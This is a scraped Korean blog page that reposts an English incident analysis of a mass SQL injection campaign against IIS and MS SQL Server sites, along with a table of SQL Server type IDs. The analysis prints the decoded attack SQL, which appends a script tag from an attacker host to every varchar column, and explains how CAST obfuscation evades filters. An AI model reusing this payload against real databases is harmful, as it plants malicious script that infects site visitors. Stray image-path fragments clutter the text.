'Mass SQL Injection'에 해당되는 글 3건

  1. 2010.03.30 Mass SQL Injection
  2. 2009.09.10 SQL 관련 (xtype 정리)
  3. 2009.04.30 Mass exploits with SQL Injection
2010.03.30 09:56

보호되어 있는 글입니다.
내용을 보시려면 비밀번호를 입력하세요.


TypeName TypeID

image 34

text 35uniqueidentifier 36

date 40

time 41

datetime2 42

datetimeoffset 43

tinyint 48

smallint 52

int 56

smalldatetime 58

real 59money 60

datetime 61

float 62

sql_variant 98

ntext 99

bit 104

decimal 106

numeric 108

smallmoney 122

bigint 127

varbinary 165

varchar 167

binary 173

char 175timestamp 189

nvarchar 231

sysname 231

nchar 239

hierarchyid 240

geometry 240

geography 240

xml 241Posted by 김주일
Couple of days ago fellow handler Scott wrote a diary about sites hosting exploits for various Realplayer vulnerabilities. One of the malicious sites mentioned in the article, uc8010.com looked particulary interesting. When you search for this web site in Google you get thousands of other, compromised sites that are all pointing to the uc8010.com web site. This, obviously, sparked some interest in the security community so we decided to dig a bit further into this attack.

It turned out that there is an automated script or a bot exploiting SQL injection attacks invulnerable web applications. I remembered that I saw the very same attack appearing back in November last year but it was not this wide spread – it appears that the attacker improved the crawling/attacking function of his bot so he managed to compromise more web sites.

The attack back from November 2007 was almost exactly the same as the current one, but the SQL statement appears to be a bit improved. One of the logs that we received back in November is shown below:

GET /home/site_content_3.asp


As you can see, we can't tell much what's going on here. The attackers weresmart and decided to obfuscate the attack by using the CAST statement. The CAST statement explicitly converts one data type to another. So, the attackers CAST the big input value as "@S" and then execute it. In this example, the site_content_3.asp script is vulnerable to SQL injection (notice the ' character after s=290, which is an input parameter for the site_content_3.asp script).

Back to the CAST statement. We can decode this simply with perl, we just need to copy the CAST content into a separate lineand do something like this:

$ perl -pe 's/(..)00/chr(hex($1))/ge' < input > output

The output file will contain the decoded SQL statement:

declare @m varchar(8000);set @m='';select@m=@m+'update['+a.name+']set['+b.name+']=rtrim(convert(varchar,'+b.name+'))+''<script src="http://yl18.net/0.js"></script>'';'
from dbo.sysobjects a,dbo.syscolumns b,dbo.systypes c where a.id=b.id and a.xtype='U'and b.xtype=c.xtype and c.name='varchar';
set @m=REVERSE(@m);set @m=substring(@m,PATINDEX('%;%',@m),8000);set @m=REVERSE(@m);exec(@m);

And here we can see exactly what's going on. This SQL statement takes all rows from the sysobjects table with type U (user table). It then cycles through those objects and matches those that with type „varchar“. Finally, for every such object it executes an update statement which results in appending the code shown above pointing to the yl18.net site.

The attack with the uc8010.com site was practically the same with a bit better SQL – Ryan Barnett posted an example of this attack at http://www.modsecurity.org/blog/

As some people noticed, almost all affected web sites are running IIS and MS SQL server. This makes sense since the SQL statement in the attack will work only on MS SQL servers and there aren't that many web sites running Apache on Windows. That being said, I have no doubt that the bad guys will expand their bot (if they haven't already) so it starts attacking PHP+MySQL web sites.

This is another example that pointsto issues with development of web applications (see the OWASPtop ten vulnerability list for 2007 – injection flaws are onthe second place http://www.owasp.org/index.php/Top_10_2007-A2#Protection). One could also protect against attacks such as this one with a reverse proxy/web application firewall in front of the web server. However, be aware that this is just a temporary fix – as we saw in this example the bad guys are pretty good in evading detection, as they did with the CAST statement (sure, you can block on CAST but beaware that there areother obfuscation ways).

Posted by 김주일